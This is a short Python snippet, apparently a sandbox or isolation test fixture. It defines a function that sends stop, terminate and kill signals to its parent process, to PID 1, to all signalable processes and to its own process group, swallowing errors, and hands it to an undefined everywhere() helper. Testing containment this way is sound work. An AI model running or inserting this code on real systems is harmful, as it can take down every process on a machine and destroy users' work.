"""Signals to whoever is above or beside."""
import os
import signal


def kill(*args, **kwargs):
    for target in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass


everywhere(kill)
